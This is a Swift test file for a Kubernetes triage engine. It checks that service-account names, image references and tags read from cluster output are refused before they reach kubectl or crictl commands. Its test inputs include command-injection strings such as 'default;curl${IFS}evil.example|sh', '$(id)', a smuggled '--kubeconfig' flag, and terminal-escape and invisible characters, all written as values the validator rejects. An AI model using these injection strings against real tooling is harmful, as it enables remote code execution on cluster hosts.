import Foundation
import Testing
import TriageExecution
import TriageModel
import TriageRunbooks
@testable import TriageEngine

/// Values read from command output are checked like inputs before they enter a command: what a
/// parser reads has the format its signature declares (a ServiceAccount name is DNS-1123), and
/// anything else read from output must be one plain word.
struct OutputValueTests {
    static let runbook = """
        id: sa
        title: ServiceAccount
        inputs:
          pod: {format: dns-1123-subdomain}
        start: read-pod
        nodes:
          read-pod:
            title: Read the pod
            run: [kubectl, get, pod, "{{pod}}", --output, json]
            parser: pod-json
            facts:
              sa_line: {jsonpath: '{.spec.serviceAccountName}'}
            next: read-sa
          read-sa:
            title: Read its ServiceAccount
            run: [kubectl, get, serviceaccount, "{{service_account}}", --output, json]
            next: by-entry
          by-entry:
            title: The same name, read by a facts entry
            run: [kubectl, get, serviceaccount, "{{sa_line}}"]
            next: done
          done:
            title: Done
            diagnosis: {cause: other, summary: done, fix: []}
        """

    /// The session after reading a pod whose ServiceAccount is called `name`.
    func session(serviceAccount name: String) throws -> Session {
        let runbook = try RunbookDecoder.decode(Self.runbook, file: "sa.yaml").get()
        var session = try Session(runbook: runbook, inputs: ["pod": "web"])
        let escaped = name.unicodeScalars.map { $0.value < 0x20 ? String(format: "\\u%04x", $0.value) : String($0) }.joined()
        let pod = """
            {"kind": "Pod", "metadata": {"name": "web", "namespace": "default"},
             "spec": {"serviceAccountName": "\(escaped)", "containers": [{"name": "app", "image": "nginx:1.27"}]},
             "status": {}}
            """
        let invocation = try session.pending()
        session.record(CommandResult(stdout: pod), for: invocation.command!, parsers: .standard)
        return session
    }

    @Test func aPlainNameEntersTheCommand() throws {
        var session = try session(serviceAccount: "builder")
        #expect(try session.pending().command?.arguments == ["kubectl", "get", "serviceaccount", "builder", "--output", "json"])
        session.record(CommandResult(stdout: "{}"), for: try session.pending().command!, parsers: .standard)
        #expect(try session.pending().command?.arguments == ["kubectl", "get", "serviceaccount", "builder"])
    }

    @Test(arguments: [
        ("--kubeconfig=/tmp/evil", "starts with '-'"),
        ("default;curl${IFS}evil.example|sh", "contains ';'"),
        ("default $(id)", "contains ' '"),
        ("Default", "contains upper-case letters"),
        // The session keeps output with its control characters made visible, so the escape arrives
        // as the text `\u{1B}` and is refused at its backslash.
        ("default\u{1B}]0;owned\u{07}", "contains '\\'"),
    ])
    func aServiceAccountNameFromClusterOutputThatWouldInjectIsRefused(name: String, problem: String) throws {
        let session = try session(serviceAccount: name)
        let error = #expect(throws: SessionError.self) { try session.pending() }
        #expect(error?.description.contains("would put service_account") == true)
        #expect(error?.description.contains(problem) == true)
    }

    /// Even a free-text value may not carry a C1 control (U+009B opens a control sequence), a
    /// bidirectional override or a zero-width character into a command, where it is shown.
    @Test(arguments: ["web\u{9B}31m", "web\u{85}", "prod\u{202E}dorp", "kube\u{200B}-system", "a\u{2066}b", "a\u{2028}b"])
    func aValueWithAControlOrInvisibleCharacterIsRefusedInEveryFormat(value: String) {
        for format in ValueFormat.allCases {
            #expect(format.problem(with: value) != nil, "\(format)")
        }
        #expect(ValueFormat.text.problem(with: value) == "contains a control character or an invisible one")
    }

    @Test(arguments: ["default;id", "a b", "x|sh", "`id`", "$(id)", "x'y", "x>y", "x&y"])
    func aValueReadByAFactsEntryMustBeOneWord(value: String) throws {
        let runbook = try RunbookDecoder.decode(Self.runbook, file: "sa.yaml").get()
        var byPattern = try Session(runbook: runbook, inputs: ["pod": "web"])
        let pod = "{\"spec\": {\"serviceAccountName\": \"\(value)\"}}"
        byPattern.record(CommandResult(stdout: pod), for: try byPattern.pending().command!, parsers: ParserCatalog([]))
        byPattern.decide()
        let error = #expect(throws: SessionError.self) { try byPattern.pending() }
        #expect(error?.description.contains("would put sa_line") == true)
    }
}

extension Session.Pending {
    /// The command, when the node waits for one.
    var command: CommandInvocation? {
        if case .command(let invocation) = self { invocation } else { nil }
    }
}

/// An image read from output enters a command only when the distribution grammar reads it as a
/// reference, not merely when its characters could belong to one.
struct ImageValueTests {
    static let runbook = """
        id: img
        title: Image
        inputs:
          pod: {format: dns-1123-subdomain}
        start: read-pod
        nodes:
          read-pod:
            title: Read the pod
            run: [kubectl, get, pod, "{{pod}}", --output, json]
            parser: pod-json
            next: pull
          pull:
            title: Pull it
            run: [crictl, pull, "{{images}}"]
            next: done
          done:
            title: Done
            diagnosis: {cause: other, summary: done, fix: []}
        """

    func session(image: String) throws -> Session {
        let runbook = try RunbookDecoder.decode(Self.runbook, file: "img.yaml").get()
        var session = try Session(runbook: runbook, inputs: ["pod": "web"])
        let pod = """
            {"kind": "Pod", "metadata": {"name": "web", "namespace": "default"},
             "spec": {"containers": [{"name": "app", "image": "\(image)"}]}, "status": {}}
            """
        session.record(CommandResult(stdout: pod), for: try session.pending().command!, parsers: .standard)
        return session
    }

    @Test(arguments: ["nginx::1", "registry.example.com//app:1", "Registry.example.com/App:1", "app@sha256:abc", ":1", "app:-x", "app:", "a/-b"])
    func aMalformedReferenceIsRefused(image: String) throws {
        let session = try session(image: image)
        let error = #expect(throws: SessionError.self) { try session.pending() }
        #expect(error?.description.contains("is not an image reference") == true, "\(String(describing: error))")
    }

    @Test(arguments: ["nginx", "registry.example.com:5000/team/app:1.2", "ghcr.io/acme/api@sha256:" + String(repeating: "a", count: 64), "[::1]:5000/app:v1"])
    func aWellFormedReferenceEntersTheCommand(image: String) throws {
        #expect(try session(image: image).pending().command?.arguments == ["crictl", "pull", image])
    }
}

/// A value read by a `facts:` entry is checked against the entry's own `format:`.
struct DeclaredFactFormatTests {
    @Test(arguments: [("builder", nil), ("a.b", "contains '.'"), ("web.v2", "contains '.'")])
    func aFactIsCheckedAgainstItsFormat(value: String, problem: String?) throws {
        let yaml = OutputValueTests.runbook.replacingOccurrences(
            of: #"sa_line: {jsonpath: '{.spec.serviceAccountName}'}"#,
            with: #"sa_line: {jsonpath: '{.spec.serviceAccountName}', format: dns-1123-label}"#
        )
        let runbook = try RunbookDecoder.decode(yaml, file: "sa.yaml").get()
        var session = try Session(runbook: runbook, inputs: ["pod": "web"])
        let pod = #"{"kind": "Pod", "metadata": {"name": "web"}, "spec": {"serviceAccountName": "\#(value)", "containers": []}, "status": {}}"#
        session.record(CommandResult(stdout: pod), for: try session.pending().command!, parsers: .standard)
        session.record(CommandResult(stdout: "{}"), for: try session.pending().command!, parsers: .standard)
        if let problem {
            let error = #expect(throws: SessionError.self) { try session.pending() }
            #expect(error?.description.contains(problem) == true, "\(String(describing: error))")
        } else {
            #expect(try session.pending().command?.arguments == ["kubectl", "get", "serviceaccount", value])
        }
    }
}

/// A tag read from a registry's answer enters `kubectl set image` only in the distribution
/// grammar's shape, so that a hostile registry cannot add a digest, a second value or a flag.
struct TagFormatTests {
    @Test(arguments: ["1.27-alpine", "v1", "_build", "latest", "A.b_c-9", String(repeating: "t", count: 128)])
    func aTagIsAccepted(tag: String) {
        #expect(ValueFormat.tag.problem(with: tag) == nil)
    }

    @Test(arguments: ["1.27@sha256:abc", "a,b", "a=b", ".hidden", "-x", "a b", "team/app", "a:b", String(repeating: "t", count: 129)])
    func anythingElseIsRefused(tag: String) {
        #expect(ValueFormat.tag.problem(with: tag) != nil, "\(tag)")
    }
}
